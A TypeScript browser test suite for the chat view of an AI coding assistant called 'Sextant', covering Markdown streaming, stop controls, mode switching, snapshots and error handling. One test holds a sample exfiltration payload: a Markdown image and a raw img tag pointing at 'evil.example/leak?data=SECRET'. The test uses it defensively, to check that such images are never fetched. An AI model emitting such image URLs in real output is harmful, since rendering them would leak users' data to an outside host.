// The chat view in real Chromium: streaming Markdown, links, images, Stop, Esc Esc, mode
// switching, model picker, snapshot rebuild, draft persistence, errors.
import { beforeEach, afterEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deliver, useViewEnvironment, type ViewHarness } from './harness';
import { RequestScript, conversation, message, snapshot, snapshotMessage } from './fixtures';

const env = useViewEnvironment();
let view: ViewHarness;

beforeEach(async () => {
  view = await env.open();
});
afterEach(async () => {
  await view.close();
});

async function startedChat(): Promise<void> {
  await deliver(view, snapshotMessage(snapshot()));
}

describe('chat view', () => {
  it('posts ready, loads under the real CSP without violations or errors', async () => {
    await startedChat();
    const posts = await view.posts();
    assert.equal(posts[0].type, 'ready');
    await view.page.getByRole('textbox', { name: 'Message' }).waitFor();
    assert.deepEqual(await view.violations(), []);
    assert.deepEqual(view.pageErrors, []);
    assert.deepEqual(view.foreignRequests, []);
  });

  it('streams Markdown: headings, a code block with a copy button, a table, inline code', async () => {
    await startedChat();
    const r = new RequestScript('r1');
    await deliver(view, r.events(r.started('show me')));
    const chunks = [
      '# Title\n\nSome **bold** and `code`.\n\n',
      '```js\nconsole.log("hi");\n',
      '```\n\n| a | b |\n|---|---|\n',
      '| 1 | 2 |\n',
      '\nDone.',
    ];
    for (const text of chunks) await deliver(view, r.events({ type: 'text_delta', text }));
    const answer = view.page.getByRole('article', { name: 'Sextant' });
    await answer.getByRole('heading', { name: 'Title' }).waitFor();
    assert.equal(await answer.locator('strong').textContent(), 'bold');
    assert.equal(await answer.locator('pre code').textContent(), 'console.log("hi");');
    await answer.getByRole('table').waitFor();
    assert.equal(await answer.getByRole('cell', { name: '2' }).count(), 1);
    // Still streaming: Stop is offered.
    await view.page.getByRole('button', { name: 'Stop' }).waitFor();
    await deliver(view, r.events({ type: 'complete' }));
    await view.page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
    // The final render keeps everything.
    await answer.getByRole('table').waitFor();
    assert.equal(await answer.getByRole('button', { name: 'Copy code' }).count(), 1);
    await view.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.origin });
    await answer.getByRole('button', { name: 'Copy code' }).click();
    await answer.getByRole('button', { name: 'Copy code' }).filter({ hasText: 'Copied' }).waitFor();
    assert.equal(await view.page.evaluate(() => navigator.clipboard.readText()), 'console.log("hi");');
    assert.deepEqual(await view.violations(), []);
  });

  it('shows the user message and the mode of each turn', async () => {
    await startedChat();
    const r = new RequestScript('r1');
    await deliver(
      view,
      r.events(r.started('hello there', 'research'), { type: 'text_delta', text: 'hi' }, { type: 'complete' }),
    );
    const user = view.page.getByRole('article', { name: 'You' });
    assert.match((await user.textContent()) ?? '', /hello there/);
    assert.match((await user.textContent()) ?? '', /Research/);
    assert.match((await view.page.getByRole('article', { name: 'Sextant' }).textContent()) ?? '', /Research/);
  });

  it('links post openLink and never navigate; a remote Markdown image is a link and is not requested', async () => {
    await startedChat();
    const r = new RequestScript('r1');
    await deliver(
      view,
      r.events(
        r.started('q'),
        {
          type: 'text_delta',
          text:
            'See [the docs](https://example.com/docs) and ![secret chart](https://evil.example/leak?data=SECRET).\n\n' +
            '<img src="https://evil.example/raw.png" alt="raw">',
        },
        { type: 'complete' },
      ),
    );
    const answer = view.page.getByRole('article', { name: 'Sextant' });
    await answer.getByRole('link', { name: 'the docs' }).click();
    const open = await view.waitForPost('openLink');
    assert.equal(open.url, 'https://example.com/docs');
    const imageLink = answer.getByRole('link', { name: 'Image: secret chart' });
    assert.equal(await imageLink.getAttribute('href'), 'https://evil.example/leak?data=SECRET');
    // A raw <img> tag is shown as the text the model wrote.
    assert.match((await answer.textContent()) ?? '', /<img src="https:\/\/evil\.example\/raw\.png" alt="raw">/);
    assert.equal(await answer.locator('img').count(), 0);
    await imageLink.click();
    await view.waitForPost('openLink', (m) => m.url.includes('evil.example/leak'));
    await view.page.waitForTimeout(100);
    assert.deepEqual(view.foreignRequests, []);
    assert.deepEqual(await view.violations(), []);
    assert.equal(view.navigations.length, 1, `navigated: ${view.navigations.join(', ')}`);
  });

  it('Send posts send with a fresh requestId and the current mode; Enter sends, Shift+Enter is a newline', async () => {
    await startedChat();
    const box = view.page.getByRole('textbox', { name: 'Message' });
    await box.fill('first line');
    await box.press('Shift+Enter');
    await box.pressSequentially('second line');
    await box.press('Enter');
    const sent = await view.waitForPost('send');
    assert.equal(sent.text, 'first line\nsecond line');
    assert.equal(sent.mode, 'chat');
    assert.equal(await box.inputValue(), '');
    await box.fill('again');
    await view.page.getByRole('button', { name: 'Send' }).click();
    const second = await view.waitForPost('send', (m) => m.text === 'again');
    assert.notEqual(second.requestId, sent.requestId);
  });

  it('Stop posts abort; the partial answer stays, marked stopped', async () => {
    await startedChat();
    const r = new RequestScript('r-stop');
    await deliver(view, r.events(r.started('long'), { type: 'text_delta', text: 'The partial answer' }));
    await view.page.getByRole('button', { name: 'Stop' }).click();
    const abort = await view.waitForPost('abort');
    assert.equal(abort.requestId, 'r-stop');
    await deliver(view, r.events({ type: 'aborted', partialSaved: true }));
    const answer = view.page.getByRole('article', { name: 'Sextant' });
    await answer.getByText('stopped', { exact: true }).waitFor();
    assert.match((await answer.textContent()) ?? '', /The partial answer/);
    await view.page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
  });

  it('Esc pressed twice aborts; once does not', async () => {
    await startedChat();
    const r = new RequestScript('r-esc');
    await deliver(view, r.events(r.started('long'), { type: 'text_delta', text: 'streaming…' }));
    const box = view.page.getByRole('textbox', { name: 'Message' });
    await box.focus();
    await view.page.keyboard.press('Escape');
    await view.page.waitForTimeout(50);
    assert.equal((await view.posts()).filter((p) => p.type === 'abort').length, 0);
    await view.page.keyboard.press('Escape');
    const abort = await view.waitForPost('abort');
    assert.equal(abort.requestId, 'r-esc');
  });

  it('Shift+Tab cycles to the next enabled mode (skipping disabled ones) from the composer', async () => {
    await startedChat();
    const group = view.page.getByRole('radiogroup', { name: 'Mode' });
    assert.equal(await group.getByRole('radio', { name: 'Chat' }).isChecked(), true);
    const plan = group.getByRole('radio', { name: 'Plan' });
    assert.equal(await plan.isDisabled(), true);
    assert.equal(await plan.getAttribute('title'), 'Plan mode arrives with issue 6');
    await view.page.getByRole('textbox', { name: 'Message' }).focus();
    await view.page.keyboard.press('Shift+Tab');
    const first = await view.waitForPost('setMode');
    assert.equal(first.mode, 'research');
    // The radio follows on the next render: wait for it rather than read it at once.
    await group.getByRole('radio', { name: 'Research', checked: true }).waitFor();
    // Focus stayed in the composer.
    assert.equal(await view.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Message');
    await view.page.keyboard.press('Shift+Tab');
    await view.waitForPost('setMode', (m) => m.mode === 'agent');
    await view.page.keyboard.press('Shift+Tab');
    await view.waitForPost('setMode', (m) => m.mode === 'chat');
    assert.deepEqual(
      (await view.posts()).filter((p) => p.type === 'setMode').map((p) => (p as { mode: string }).mode),
      ['research', 'agent', 'chat'],
    );
    // Sending uses the mode now shown.
    await group.getByRole('radio', { name: 'Agent' }).check();
    await view.waitForPost('setMode', (m) => m.mode === 'agent');
    await view.page.getByRole('textbox', { name: 'Message' }).fill('do it');
    await view.page.keyboard.press('Enter');
    assert.equal((await view.waitForPost('send')).mode, 'agent');
  });

  it("quick Shift+Tabs are not undone by the host's late answers to the earlier ones", async () => {
    await startedChat();
    const group = view.page.getByRole('radiogroup', { name: 'Mode' });
    const box = view.page.getByRole('textbox', { name: 'Message' });
    await box.focus();
    await view.page.keyboard.press('Shift+Tab'); // → research (plan is disabled here)
    await group.getByRole('radio', { name: 'Research', checked: true }).waitFor();
    await view.page.keyboard.press('Shift+Tab'); // → agent
    await group.getByRole('radio', { name: 'Agent', checked: true }).waitFor();
    // The host answers the first change only now: the newer choice stays, and the next press goes on from it.
    await deliver(view, { type: 'mode', mode: 'research' });
    await group.getByRole('radio', { name: 'Agent', checked: true }).waitFor();
    await view.page.keyboard.press('Shift+Tab'); // → chat, from agent (not agent again, from research)
    await view.waitForPost('setMode', (m) => m.mode === 'chat');
    await deliver(view, { type: 'mode', mode: 'agent' });
    await deliver(view, { type: 'mode', mode: 'chat' });
    await group.getByRole('radio', { name: 'Chat', checked: true }).waitFor();
    assert.deepEqual(
      (await view.posts()).filter((p) => p.type === 'setMode').map((p) => (p as { mode: string }).mode),
      ['research', 'agent', 'chat'],
    );
    // The host's last answer wins: it may correct the choice.
    await view.page.keyboard.press('Shift+Tab');
    await view.waitForPost('setMode', (m) => m.mode === 'research');
    await deliver(view, { type: 'mode', mode: 'chat' });
    await group.getByRole('radio', { name: 'Chat', checked: true }).waitFor();
  });

  it('Shift+Tab outside the composer still moves focus backwards (keyboard navigation is kept)', async () => {
    await startedChat();
    await view.page.getByRole('button', { name: 'Send' }).focus();
    const before = (await view.posts()).filter((p) => p.type === 'setMode').length;
    await view.page.keyboard.press('Shift+Tab');
    const label = () =>
      view.page.evaluate(
        () => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent?.trim(),
      );
    assert.equal(await label(), 'Budget for this run');
    await view.page.keyboard.press('Shift+Tab');
    assert.equal(await label(), 'Attach image');
    await view.page.keyboard.press('Shift+Tab');
    assert.equal(await label(), 'Message');
    assert.equal((await view.posts()).filter((p) => p.type === 'setMode').length, before);
  });

  it('the model picker posts setModel; header buttons post newChat and export', async () => {
    await startedChat();
    const picker = view.page.getByRole('combobox', { name: 'Model' });
    assert.equal(await picker.inputValue(), 'fake/model-a');
    await picker.selectOption('fake/model-b');
    assert.equal((await view.waitForPost('setModel')).model, 'fake/model-b');
    await view.page.getByRole('button', { name: 'New chat' }).click();
    await view.waitForPost('newChat');
    await view.page.getByRole('button', { name: 'Export' }).click();
    await view.page.getByRole('menuitem', { name: 'Export as Markdown' }).click();
    assert.equal((await view.waitForPost('export')).format, 'markdown');
  });

  it('is usable by keyboard with visible focus: export menu by keys, Tab through the header', async () => {
    await startedChat();
    const newChat = view.page.getByRole('button', { name: 'New chat' });
    const model = view.page.getByRole('combobox', { name: 'Model' });
    await model.focus();
    await view.page.keyboard.press('Tab');
    assert.equal(await view.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'New chat');
    const outline = await newChat.evaluate((el) => getComputedStyle(el).outlineStyle);
    assert.notEqual(outline, 'none', 'keyboard focus is visible');
    await view.page.keyboard.press('Tab');
    await view.page.keyboard.press('Tab');
    assert.equal(await view.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Export');
    await view.page.keyboard.press('Enter');
    await view.page.getByRole('menuitem', { name: 'Export as Markdown' }).waitFor();
    await view.page.keyboard.press('ArrowDown');
    await view.page.keyboard.press('Enter');
    assert.equal((await view.waitForPost('export')).format, 'html');
    await view.page.getByRole('menu').waitFor({ state: 'detached' });
  });

  it('rebuilds everything from a snapshot, including a request still in flight', async () => {
    await startedChat();
    const msgs = [
      message('user', 'old question'),
      message('assistant', 'old **answer**'),
      message('user', 'current'),
      message('assistant', 'partial', { id: 'a-live', status: 'streaming' }),
    ];
    await deliver(
      view,
      snapshotMessage(
        snapshot({
          mode: 'agent',
          messages: msgs,
          inFlightRequestId: 'r-live',
          inFlightAssistantMessageId: 'a-live',
          inFlightLastSeq: 4,
          todos: [{ id: 't1', content: 'Write tests', status: 'in_progress' }],
        }),
      ),
    );
    assert.equal(await view.page.getByRole('article').count(), 4);
    await view.page.getByRole('radio', { name: 'Agent', checked: true }).waitFor();
    await view.page.getByRole('button', { name: 'Stop' }).waitFor();
    await view.page.getByRole('list', { name: 'Todos' }).getByText('Write tests').waitFor();
    // Events after the snapshot continue the in-flight message; a stale one (seq ≤ 4) is ignored.
    await deliver(view, {
      type: 'events',
      envelopes: [
        { requestId: 'r-live', seq: 4, ts: 1, event: { type: 'text_delta', text: ' STALE' } },
        { requestId: 'r-live', seq: 5, ts: 2, event: { type: 'text_delta', text: ' and more' } },
        { requestId: 'r-live', seq: 6, ts: 3, event: { type: 'complete' } },
      ],
    });
    const last = view.page.getByRole('article', { name: 'Sextant' }).last();
    await last.getByText('partial and more').waitFor();
    assert.doesNotMatch((await last.textContent()) ?? '', /STALE/);
    // A second snapshot replaces the first entirely.
    await deliver(view, snapshotMessage(snapshot({ messages: [message('user', 'fresh')] })));
    assert.equal(await view.page.getByRole('article').count(), 1);
  });

  it('renders only the tail of a long chat, with "show earlier"', async () => {
    await deliver(view, snapshotMessage(snapshot({ messages: conversation(500) })));
    const count = await view.page.getByRole('article').count();
    assert.ok(count < 100, `rendered ${count} articles`);
    await view.page.getByRole('button', { name: /Show earlier messages/ }).click();
    await view.page.waitForFunction((n) => document.querySelectorAll('article').length > n, count);
    assert.equal(await view.page.getByRole('article').count(), count + 100);
  });

  it('the draft survives the view being re-created', async () => {
    await startedChat();
    await view.page.getByRole('textbox', { name: 'Message' }).fill('unsent thought');
    await view.page.reload();
    await view.waitForPost('ready');
    await deliver(view, snapshotMessage(snapshot()));
    assert.equal(await view.page.getByRole('textbox', { name: 'Message' }).inputValue(), 'unsent thought');
  });

  it('errors show their text with Retry, and Set API Key for a missing key', async () => {
    await startedChat();
    const r = new RequestScript('r-err');
    await deliver(
      view,
      r.events(r.started('q'), {
        type: 'error',
        error: { code: 'no_key', message: 'No API key for minimax. Run "Sextant: Set API Key".', recoverable: true },
      }),
    );
    const answer = view.page.getByRole('article', { name: 'Sextant' });
    await answer.getByRole('alert').getByText('No API key for minimax').waitFor();
    await answer.getByRole('button', { name: 'Set API Key' }).click();
    assert.equal((await view.waitForPost('runCommand')).command, 'setApiKey');
    await answer.getByRole('button', { name: 'Retry' }).click();
    const retry = await view.waitForPost('retry');
    assert.ok(retry.requestId.length > 0);
    const r2 = new RequestScript('r-err2');
    await deliver(
      view,
      r2.events(r2.started('q2'), {
        type: 'error',
        error: { code: 'rate_limit', message: 'Rate limited (429).', recoverable: true },
      }),
    );
    const second = view.page.getByRole('article', { name: 'Sextant' }).last();
    await second.getByRole('button', { name: 'Retry' }).waitFor();
    assert.equal(await second.getByRole('button', { name: 'Set API Key' }).count(), 0);
  });

  it('thinking is shown collapsed', async () => {
    await startedChat();
    const r = new RequestScript('r-think');
    await deliver(
      view,
      r.events(
        r.started('q'),
        { type: 'thinking_delta', text: 'Let me consider SECRET-THOUGHT' },
        { type: 'text_delta', text: 'Answer' },
        { type: 'complete' },
      ),
    );
    const answer = view.page.getByRole('article', { name: 'Sextant' });
    await answer.getByText('Thinking').waitFor();
    assert.equal(await answer.getByText('Let me consider SECRET-THOUGHT').isVisible(), false);
    await answer.getByText('Thinking').click();
    assert.equal(await answer.getByText('Let me consider SECRET-THOUGHT').isVisible(), true);
  });

  it('ignores malformed host messages with a warning', async () => {
    await startedChat();
    const warnings: string[] = [];
    view.page.on('console', (m) => {
      if (m.type() === 'warning') warnings.push(m.text());
    });
    await view.host({ type: 'events', envelopes: [{ requestId: 1 }] });
    await view.host({ type: 'nonsense' });
    await view.page.waitForFunction(() => true);
    await view.page.waitForTimeout(50);
    assert.equal(warnings.filter((w) => w.includes('malformed')).length, 2);
    assert.deepEqual(view.pageErrors, []);
    await view.page.getByRole('textbox', { name: 'Message' }).waitFor();
  });
});
